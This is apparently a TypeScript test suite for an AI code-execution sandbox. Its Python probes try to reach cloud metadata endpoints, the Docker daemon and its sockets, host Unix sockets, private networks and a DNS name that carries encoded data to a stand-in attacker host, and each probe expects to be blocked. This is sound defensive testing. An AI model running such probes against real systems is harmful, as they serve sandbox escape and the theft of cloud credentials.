import { one, raises, valued } from './expectations';
import type { Expected, HostileCase } from './hostile-case';
import { py } from './python-text';

/** Whatever the exception is called: there is no way out. */
const NO_WAY: Expected = {
  status: 'error',
  state: 'kept',
  error: [
    'OSError',
    'URLError',
    'gaierror',
    'TimeoutError',
    'ConnectionRefusedError',
    'PermissionError',
    'BlockingIOError',
    'ConnectionError',
    'HTTPException',
    'RemoteDisconnected',
  ],
};

const TARGETS: readonly (readonly [what: string, host: string, port: number])[] = [
  ['the metadata service', '169.254.169.254', 80],
  ['the metadata service by IPv6', 'fd00:ec2::254', 80],
  ['the engine’s bridge', '172.17.0.1', 80],
  ['a private network', '10.0.0.1', 80],
  ['another private network', '192.168.0.1', 443],
  ['the internet', '1.1.1.1', 443],
  ['the internet by IPv6', '2606:4700:4700::1111', 443],
  ['the engine by TCP', '172.17.0.1', 2375],
];

const NAMES: readonly (readonly [what: string, name: string])[] = [
  ['a name', 'example.com'],
  ['the metadata service’s name', 'metadata.google.internal'],
  ['the host’s name as Docker gives it', 'host.docker.internal'],
  ['data hidden in a name', 'c2VjcmV0.attacker.example'],
];

export const NETWORK: readonly HostileCase[] = [
  ...TARGETS.map(([what, host, port]) =>
    one({
      row: 'E1',
      name: `connects to ${what}`,
      run: `import socket; socket.create_connection(("${host}", ${port}), timeout=1).sendall(b"x")`,
      expect: NO_WAY,
    }),
  ),
  {
    row: 'E1',
    name: 'connects to the tool server that runs it, by every address it might have',
    scenario: async ({ client, server }) => {
      const { port } = new URL(server.running.url);
      const session = await client.open();
      const code = py`
        import socket
        reached = []
        for host in ("127.0.0.1", "::1", "0.0.0.0", "172.17.0.1", "localhost"):
            try:
                with socket.create_connection((host, ${Number(port)}), timeout=1) as connection:
                    connection.sendall(b"GET /ready HTTP/1.0\r\n\r\n")
                    if connection.recv(1): reached.append(host)
            except (OSError, RuntimeError): pass
        reached`;
      const answer = await client.execute(session, { code, timeout_ms: 10_000 }, 20_000);
      await client.close(session);
      return 'result' in answer && answer.result.value === '[]' ? [] : [`it reached ${JSON.stringify(answer).slice(0, 400)}`];
    },
  },
  one({
    row: 'E1',
    name: 'fetches a page',
    run: 'import urllib.request\nurllib.request.urlopen("http://169.254.169.254/latest/meta-data/", timeout=1).read()',
    expect: NO_WAY,
    notOn: { wasm: 'urllib needs modules that this Python has not got' },
  }),
  one({
    row: 'E1',
    name: 'sends a datagram',
    run: 'import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b"x", ("8.8.8.8", 53))\ns.settimeout(1)\ns.recv(1)',
    expect: NO_WAY,
  }),
  one({
    row: 'E1',
    name: 'sends to everyone',
    needs: ['system-calls'],
    run: 'import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\ns.sendto(b"x", ("255.255.255.255", 9))',
    expect: NO_WAY,
  }),
  one({
    row: 'E1',
    name: 'counts its interfaces: none but its own loopback',
    needs: ['proc'],
    run: '[line.split(":")[0].strip() for line in open("/proc/net/dev").readlines()[2:]]',
    expect: valued(/^\[('lo')?\]$/),
  }),
  ...NAMES.map(([what, name]) =>
    one({
      row: 'E2',
      name: `resolves ${what}`,
      run: `import socket; socket.gethostbyname("${name}"); socket.create_connection(("${name}", 80), timeout=1).sendall(b"x")`,
      expect: NO_WAY,
    }),
  ),
  one({
    row: 'E3',
    name: 'listens and connects to itself',
    needs: ['system-calls'],
    run: py`
    import socket
    listener = socket.socket()
    listener.bind(("127.0.0.1", 8000))
    listener.listen()
    client = socket.create_connection(("127.0.0.1", 8000), timeout=2)
    client.sendall(b"hello")
    listener.accept()[0].recv(5)`,
    expect: valued("b'hello'"),
  }),
  {
    row: 'E3',
    name: 'listens on the port that its neighbour listens on: neither meets the other',
    needs: ['system-calls'],
    scenario: async ({ client }) => {
      const sessions = [await client.open(), await client.open()] as const;
      const listen =
        'import socket\nlistener = socket.socket()\nlistener.bind(("0.0.0.0", 8123))\nlistener.listen()\nlistener.setblocking(False)\n"listens"';
      const accept = 'try:\n  connection = listener.accept()\n  seen = True\nexcept BlockingIOError: seen = False\nseen';
      const wrong: string[] = [];
      for (const session of sessions) {
        const answer = await client.execute(session, { code: listen }, 20_000);
        if (!('result' in answer) || answer.result.value !== "'listens'")
          wrong.push(`it can’t listen: ${JSON.stringify(answer).slice(0, 300)}`);
      }
      await client.execute(sessions[0], { code: 'socket.create_connection(("127.0.0.1", 8123), timeout=1)' }, 20_000);
      const met = await client.execute(sessions[1], { code: accept }, 20_000);
      if (!('result' in met) || met.result.value !== 'False') wrong.push(`the neighbour was met: ${JSON.stringify(met).slice(0, 300)}`);
      for (const session of sessions) await client.close(session);
      return wrong;
    },
  },
  ...(
    [
      ['packets', 17, 3],
      ['netlink', 16, 3],
      ['the hypervisor', 40, 1],
      ['the kernel’s cryptography', 38, 5],
      ['bluetooth', 31, 3],
      ['the CAN bus', 29, 3],
      ['key management', 15, 3],
      ['TIPC', 30, 2],
      ['XDP', 44, 3],
    ] as const
  ).map(([what, family, kind]) =>
    one({
      row: 'E4',
      name: `opens a socket to ${what}`,
      needs: ['system-calls'],
      run: `import socket; socket.socket(${family}, ${kind}, 0)`,
      expect: raises('PermissionError', 'OSError'),
      // gVisor's netlink is its own, and knows this sandbox only.
      on: family === 16 ? { runsc: { status: ['ok', 'error'], error: undefined } } : {},
    }),
  ),
  one({
    row: 'E4',
    name: 'opens a raw socket',
    needs: ['system-calls'],
    run: 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)',
    expect: raises('PermissionError', 'OSError'),
  }),
  one({
    row: 'E5',
    name: 'looks for sockets of the host: there are only its own',
    needs: ['proc'],
    run: py`
      import re
      [line.split()[-1] for line in open("/proc/net/unix").readlines()[1:] if re.search("docker|containerd|dbus|systemd|interleave", line)]`,
    expect: valued('[]'),
  }),
  one({
    row: 'E5',
    name: 'connects to well-known sockets of the host',
    needs: ['system-calls'],
    run: py`
      import socket
      reached = []
      for name in ("\0/containerd-shim/", "\0/tmp/.X11-unix/X0", "\0docker", "/run/systemd/private", "/run/dbus/system_bus_socket", "/var/run/nscd/socket"):
          try: socket.socket(socket.AF_UNIX).connect(name)
          except OSError: continue
          reached.append(name)
      reached`,
    expect: valued('[]'),
  }),
  one({
    row: 'E6',
    name: 'looks for the engine’s sockets',
    needs: ['system-calls'],
    run: 'import os\n[path for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd", "/run/podman", "/.dockerenv.sock") if os.path.exists(path)]',
    expect: valued('[]'),
  }),
  one({
    row: 'E6',
    name: 'looks for anything that the host has mounted into it',
    needs: ['proc'],
    run: py`
      mounts = [line.split() for line in open("/proc/self/mounts")]
      sorted({mount[1] for mount in mounts if mount[2] in ("ext4", "xfs", "btrfs", "9p", "virtiofs", "nfs", "fuse") and mount[1] not in ("/", "/etc/hosts", "/etc/hostname", "/etc/resolv.conf")})`,
    expect: valued('[]'),
  }),
];
